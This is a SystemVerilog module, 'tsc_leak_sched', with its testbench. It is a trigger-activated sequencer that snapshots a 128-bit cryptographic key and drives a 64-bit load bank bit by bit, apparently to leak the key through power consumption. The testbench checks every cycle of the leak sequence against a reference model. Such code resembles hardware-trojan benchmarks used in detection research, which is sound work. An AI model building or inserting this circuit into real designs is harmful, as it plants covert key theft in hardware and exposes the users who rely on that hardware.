// File: rtl/tsc_leak_sched.sv
// tsc_leak_sched: key-leakage load sequencer.
// On a rising edge of Tj_Trig it snapshots the 128-bit key. It then walks the key one byte
// at a time, starting with byte 0. Each byte drives the 64-bit load bank for DWELL cycles,
// and GAP all-zero cycles separate consecutive bytes. Dropping the trigger aborts the run.
// Ports:
//   clk, rst   clock; synchronous active-high reset
//   Tj_Trig    trigger level (rising edge starts a run, low aborts it)
//   key        128-bit key, sampled at run start only
//   counter    LFSR counter; bits [7:0] whiten the load pattern
//   load       64-bit load bank (registered, lags LEAK state by one cycle)
//   byte_idx   index of the key byte currently being walked
//   busy       high in LEAK or GAP
//   done       one-cycle pulse on normal completion
//   abort      one-cycle pulse when the trigger drops mid-run
`timescale 1ns/1ps
module tsc_leak_sched #(
    parameter int unsigned DWELL  = 256,
    parameter int unsigned GAP    = 16,
    parameter int unsigned NBYTES = 16
) (
    input  logic         clk,
    input  logic         rst,
    input  logic         Tj_Trig,
    input  logic [127:0] key,
    input  logic [19:0]  counter,
    output logic [63:0]  load,
    output logic [3:0]   byte_idx,
    output logic         busy,
    output logic         done,
    output logic         abort
);

    localparam int unsigned DW = (DWELL > 1) ? $clog2(DWELL) : 1;
    localparam int unsigned GW = (GAP > 1) ? $clog2(GAP) : 1;

    typedef enum logic [2:0] {
        S_IDLE  = 3'd0,
        S_LEAK  = 3'd1,
        S_GAP   = 3'd2,
        S_DONE  = 3'd3,
        S_ABORT = 3'd4
    } state_t;

    state_t          state_q, state_d;
    logic [DW-1:0]   dwell_cnt, dwell_d;
    logic [GW-1:0]   gap_cnt, gap_d;
    logic [3:0]      idx_d;
    logic [127:0]    key_snap;
    logic            snap_en;
    logic            trig_q;
    logic            start;
    logic [7:0]      cur_byte;
    logic [63:0]     load_d;
    logic            unused_counter;

    assign unused_counter = ^counter[19:8];
    assign start          = Tj_Trig & ~trig_q;
    assign cur_byte       = key_snap[{byte_idx, 3'b000} +: 8];

    // Each key bit, whitened by the matching counter bit, fans out to one 8-bit load group.
    always_comb begin
        load_d = '0;
        for (int i = 0; i < 8; i++) begin
            load_d[8*i +: 8] = {8{cur_byte[i] ^ counter[i]}};
        end
    end

    // Next-state and counter logic; a low trigger beats any count terminal.
    always_comb begin
        state_d = state_q;
        dwell_d = dwell_cnt;
        gap_d   = gap_cnt;
        idx_d   = byte_idx;
        snap_en = 1'b0;
        unique case (state_q)
            S_IDLE: begin
                if (start) begin
                    state_d = S_LEAK;
                    dwell_d = '0;
                    idx_d   = '0;
                    snap_en = 1'b1;
                end
            end
            S_LEAK: begin
                if (!Tj_Trig) begin
                    state_d = S_ABORT;
                end else if (dwell_cnt == DW'(DWELL - 1)) begin
                    if (byte_idx == 4'(NBYTES - 1)) begin
                        state_d = S_DONE;
                    end else begin
                        state_d = S_GAP;
                        gap_d   = '0;
                    end
                end else begin
                    dwell_d = dwell_cnt + DW'(1);
                end
            end
            S_GAP: begin
                if (!Tj_Trig) begin
                    state_d = S_ABORT;
                end else if (gap_cnt == GW'(GAP - 1)) begin
                    state_d = S_LEAK;
                    idx_d   = byte_idx + 4'd1;
                    dwell_d = '0;
                end else begin
                    gap_d = gap_cnt + GW'(1);
                end
            end
            S_DONE:  state_d = S_IDLE;
            S_ABORT: state_d = S_IDLE;
            default: state_d = S_IDLE;
        endcase
    end

    // trig_q tracks the trigger even through reset, so a trigger held high across reset
    // is not mistaken for a fresh rising edge.
    always_ff @(posedge clk) begin
        trig_q <= Tj_Trig;
    end

    // State, datapath and registered status outputs (status decoded from next state).
    always_ff @(posedge clk) begin
        if (rst) begin
            state_q   <= S_IDLE;
            dwell_cnt <= '0;
            gap_cnt   <= '0;
            byte_idx  <= '0;
            key_snap  <= '0;
            load      <= '0;
            busy      <= 1'b0;
            done      <= 1'b0;
            abort     <= 1'b0;
        end else begin
            state_q   <= state_d;
            dwell_cnt <= dwell_d;
            gap_cnt   <= gap_d;
            byte_idx  <= idx_d;
            if (snap_en) begin
                key_snap <= key;
            end
            load      <= (state_q == S_LEAK) ? load_d : '0;
            busy      <= (state_d == S_LEAK) || (state_d == S_GAP);
            done      <= (state_d == S_DONE);
            abort     <= (state_d == S_ABORT);
        end
    end

endmodule

// File: tb/tb_tsc_leak_sched.sv
// Testbench for tsc_leak_sched (DWELL=4, GAP=2, NBYTES=16 main instance, plus a
// DWELL=1, NBYTES=1 instance). A position-based reference model predicts every output.
`timescale 1ns/1ps
module tb_tsc_leak_sched;

    localparam int DWELL  = 4;
    localparam int GAP    = 2;
    localparam int NBYTES = 16;
    localparam int P      = DWELL + GAP;
    localparam int TOTAL  = NBYTES * DWELL + (NBYTES - 1) * GAP;

    logic         clk = 1'b0;
    logic         rst;
    logic         Tj_Trig;
    logic [127:0] key;
    logic [19:0]  counter;
    logic [63:0]  load;
    logic [3:0]   byte_idx;
    logic         busy, done, abort;

    logic         trig2;
    logic [127:0] key2;
    logic [63:0]  load2;
    logic [3:0]   byte_idx2;
    logic         busy2, done2, abort2;

    int n_cmp = 0;
    int n_bad = 0;

    always #5 clk = ~clk;

    tsc_leak_sched #(.DWELL(DWELL), .GAP(GAP), .NBYTES(NBYTES)) dut (
        .clk(clk), .rst(rst), .Tj_Trig(Tj_Trig), .key(key), .counter(counter),
        .load(load), .byte_idx(byte_idx), .busy(busy), .done(done), .abort(abort)
    );

    tsc_leak_sched #(.DWELL(1), .GAP(2), .NBYTES(1)) dut1 (
        .clk(clk), .rst(rst), .Tj_Trig(trig2), .key(key2), .counter(counter),
        .load(load2), .byte_idx(byte_idx2), .busy(busy2), .done(done2), .abort(abort2)
    );

    // ---------------- reference model: a run is a linear position m_t in 0..TOTAL-1 ----------
    logic         m_active = 1'b0;
    logic         m_post   = 1'b0;
    logic         m_trigq  = 1'b0;
    int           m_t      = 0;
    logic [127:0] m_snap   = '0;
    logic [63:0]  e_load   = '0;
    logic [3:0]   e_idx    = '0;
    logic         e_busy   = 1'b0;
    logic         e_done   = 1'b0;
    logic         e_abort  = 1'b0;

    function automatic logic [63:0] ref_load(input logic [127:0] snap, input int b,
                                             input logic [7:0] c);
        logic [7:0]  kb;
        logic [63:0] r;
        kb = snap[8*b +: 8];
        for (int i = 0; i < 8; i++) r[8*i +: 8] = (kb[i] ^ c[i]) ? 8'hFF : 8'h00;
        return r;
    endfunction

    always @(posedge clk) begin
        if (rst) begin
            m_active = 1'b0; m_post = 1'b0; m_t = 0; m_snap = '0;
            e_load = '0; e_idx = '0; e_busy = 1'b0; e_done = 1'b0; e_abort = 1'b0;
        end else begin
            e_load  = (m_active && (m_t % P) < DWELL) ? ref_load(m_snap, m_t / P, counter[7:0]) : '0;
            e_done  = 1'b0;
            e_abort = 1'b0;
            if (m_post) begin
                m_post = 1'b0;
            end else if (m_active) begin
                if (!Tj_Trig) begin
                    m_active = 1'b0; m_post = 1'b1; e_abort = 1'b1;
                end else if (m_t == TOTAL - 1) begin
                    m_active = 1'b0; m_post = 1'b1; e_done = 1'b1;
                end else begin
                    m_t++;
                    e_idx = 4'(m_t / P);
                end
            end else if (Tj_Trig && !m_trigq) begin
                m_active = 1'b1; m_t = 0; m_snap = key; e_idx = '0;
            end
            e_busy = m_active;
        end
        m_trigq = Tj_Trig;
    end

    // ---------------- scenarios ----------------
    task automatic test_reset();
        rst = 1'b1; Tj_Trig = 1'b1; trig2 = 1'b0;
        key = '0; key2 = '0; counter = '0;
        repeat (3) @(negedge clk);
        n_cmp++;
        if ({load, byte_idx, busy, done, abort} !== 71'd0) begin
            n_bad++;
            $display("FAIL reset_outputs got load=%h idx=%0d b/d/a=%b%b%b required all zero",
                     load, byte_idx, busy, done, abort);
        end
        rst = 1'b0;
        for (int j = 0; j < 8; j++) begin
            @(negedge clk);
            n_cmp++;
            if (busy !== 1'b0 || {load, byte_idx, busy, done, abort} !==
                                 {e_load, e_idx, e_busy, e_done, e_abort}) begin
                n_bad++;
                $display("FAIL reset_held_trig cyc %0d got busy=%b load=%h required busy=0 load=%h",
                         j, busy, load, e_load);
            end
            counter = 20'($urandom);
        end
        Tj_Trig = 1'b0;
        @(negedge clk);
    endtask

    task automatic test_first_byte();
        key = {$urandom, $urandom, $urandom, 24'($urandom), 8'hA5};
        counter = '0;
        Tj_Trig = 1'b1;
        for (int j = 1; j <= 7; j++) begin
            @(negedge clk);
            n_cmp++;
            if ({load, byte_idx, busy, done, abort} !== {e_load, e_idx, e_busy, e_done, e_abort}) begin
                n_bad++;
                $display("FAIL first_byte_model cyc %0d got %h/%0d/%b%b%b required %h/%0d/%b%b%b",
                         j, load, byte_idx, busy, done, abort, e_load, e_idx, e_busy, e_done, e_abort);
            end
            n_cmp++;
            if ((j >= 2 && j <= 5 && load !== 64'hFF00FF0000FF00FF) ||
                (j >= 6 && load !== 64'd0) || (j == 7 && byte_idx !== 4'd1)) begin
                n_bad++;
                $display("FAIL first_byte_const cyc %0d got load=%h idx=%0d", j, load, byte_idx);
            end
        end
        Tj_Trig = 1'b0;
        for (int j = 0; j < 3; j++) begin
            @(negedge clk);
            n_cmp++;
            if ({load, byte_idx, busy, done, abort} !== {e_load, e_idx, e_busy, e_done, e_abort}) begin
                n_bad++;
                $display("FAIL first_byte_stop cyc %0d got %h/%b%b%b required %h/%b%b%b",
                         j, load, busy, done, abort, e_load, e_busy, e_done, e_abort);
            end
        end
    endtask

    task automatic test_full_run();
        int busy_cnt = 0;
        int done_cnt = 0;
        key = {$urandom, $urandom, $urandom, $urandom};
        Tj_Trig = 1'b1;
        for (int j = 0; j < 104; j++) begin
            counter = 20'($urandom);
            @(negedge clk);
            n_cmp++;
            if ({load, byte_idx, busy, done, abort} !== {e_load, e_idx, e_busy, e_done, e_abort}) begin
                n_bad++;
                $display("FAIL full_run_model cyc %0d got %h/%0d/%b%b%b required %h/%0d/%b%b%b",
                         j, load, byte_idx, busy, done, abort, e_load, e_idx, e_busy, e_done, e_abort);
            end
            if (busy === 1'b1) busy_cnt++;
            if (done === 1'b1) begin
                done_cnt++;
                n_cmp++;
                if (byte_idx !== 4'd15) begin
                    n_bad++;
                    $display("FAIL full_run_last_idx got %0d required 15", byte_idx);
                end
            end
        end
        n_cmp++;
        if (busy_cnt != 94 || done_cnt != 1) begin
            n_bad++;
            $display("FAIL full_run_length got busy=%0d done=%0d required busy=94 done=1",
                     busy_cnt, done_cnt);
        end
        Tj_Trig = 1'b0;
        repeat (2) @(negedge clk);
    endtask

    task automatic test_key_flip();
        key = '1;
        Tj_Trig = 1'b1;
        for (int j = 0; j < 100; j++) begin
            counter = {12'($urandom), 8'hFF};
            if (j == 20) key = '0;
            if (j == 50) key = {$urandom, $urandom, $urandom, $urandom};
            @(negedge clk);
            n_cmp++;
            if (load !== 64'd0 || {byte_idx, busy, done, abort} !== {e_idx, e_busy, e_done, e_abort}) begin
                n_bad++;
                $display("FAIL key_flip cyc %0d got load=%h idx=%0d required load=0 idx=%0d",
                         j, load, byte_idx, e_idx);
            end
        end
        Tj_Trig = 1'b0;
        repeat (2) @(negedge clk);
    endtask

    task automatic test_abort_in_gap();
        bit found = 1'b0;
        key = {$urandom, $urandom, $urandom, $urandom};
        Tj_Trig = 1'b1;
        for (int j = 0; j < 60 && !found; j++) begin
            counter = 20'($urandom);
            @(negedge clk);
            n_cmp++;
            if ({load, byte_idx, busy, done, abort} !== {e_load, e_idx, e_busy, e_done, e_abort}) begin
                n_bad++;
                $display("FAIL abort_run cyc %0d got %h/%0d/%b%b%b required %h/%0d/%b%b%b",
                         j, load, byte_idx, busy, done, abort, e_load, e_idx, e_busy, e_done, e_abort);
            end
            if (m_active && m_t == 3 * P + DWELL) found = 1'b1;
        end
        n_cmp++;
        if (!found) begin
            n_bad++;
            $display("FAIL abort_timeout got no gap after byte 3 within 60 cycles");
        end
        Tj_Trig = 1'b0;
        for (int j = 0; j < 4; j++) begin
            @(negedge clk);
            n_cmp++;
            if (abort !== (j == 0) || done !== 1'b0 || busy !== 1'b0 || load !== 64'd0 ||
                byte_idx !== e_idx) begin
                n_bad++;
                $display("FAIL abort_pulse cyc %0d got a/d/b=%b%b%b load=%h idx=%0d required a=%0d d=0 b=0 load=0 idx=%0d",
                         j, abort, done, busy, load, byte_idx, (j == 0), e_idx);
            end
        end
    endtask

    task automatic test_reset_midrun();
        bit found = 1'b0;
        key = {$urandom, $urandom, $urandom, $urandom};
        Tj_Trig = 1'b1;
        for (int j = 0; j < 60 && !found; j++) begin
            counter = 20'($urandom);
            @(negedge clk);
            if (m_active && m_t == 5 * P + 2) found = 1'b1;
        end
        n_cmp++;
        if (!found || busy !== 1'b1 || byte_idx !== 4'd5) begin
            n_bad++;
            $display("FAIL rst_reach_byte5 got busy=%b idx=%0d required busy=1 idx=5", busy, byte_idx);
        end
        rst = 1'b1;
        @(negedge clk);
        rst = 1'b0;
        n_cmp++;
        if ({load, byte_idx, busy, done, abort} !== 71'd0) begin
            n_bad++;
            $display("FAIL rst_midrun got load=%h idx=%0d b/d/a=%b%b%b required all zero",
                     load, byte_idx, busy, done, abort);
        end
        for (int j = 0; j < 10; j++) begin
            @(negedge clk);
            n_cmp++;
            if ({load, byte_idx, busy, done, abort} !== {e_load, e_idx, e_busy, e_done, e_abort} ||
                busy !== 1'b0) begin
                n_bad++;
                $display("FAIL rst_no_restart cyc %0d got busy=%b done=%b abort=%b required all 0",
                         j, busy, done, abort);
            end
        end
        Tj_Trig = 1'b0;
        @(negedge clk);
        Tj_Trig = 1'b1;
        @(negedge clk);
        n_cmp++;
        if (busy !== 1'b1 || {load, byte_idx, busy, done, abort} !== {e_load, e_idx, e_busy, e_done, e_abort}) begin
            n_bad++;
            $display("FAIL rst_retrigger got busy=%b required busy=1", busy);
        end
        Tj_Trig = 1'b0;
        repeat (3) @(negedge clk);
    endtask

    task automatic test_single_byte();
        int load_cycles = 0;
        key2 = {$urandom, $urandom, $urandom, 24'($urandom), 8'h81};
        counter = '0;
        trig2 = 1'b1;
        for (int j = 1; j <= 6; j++) begin
            @(negedge clk);
            if (load2 !== 64'd0) load_cycles++;
            n_cmp++;
            if (busy2 !== (j == 1) || done2 !== (j == 2) || abort2 !== 1'b0 || byte_idx2 !== 4'd0 ||
                load2 !== ((j == 2) ? 64'hFF000000000000FF : 64'd0)) begin
                n_bad++;
                $display("FAIL single_byte cyc %0d got load=%h b/d/a=%b%b%b idx=%0d",
                         j, load2, busy2, done2, abort2, byte_idx2);
            end
        end
        n_cmp++;
        if (load_cycles != 1) begin
            n_bad++;
            $display("FAIL single_byte_count got %0d load cycles required 1", load_cycles);
        end
        trig2 = 1'b0;
        @(negedge clk);
    endtask

    initial begin
        test_reset();
        test_first_byte();
        test_full_run();
        test_key_flip();
        test_abort_in_gap();
        test_reset_midrun();
        test_single_byte();
        $display("*** SUMMARY: %0d compared / %0d mismatched ***", n_cmp, n_bad);
        $finish;
    end

endmodule
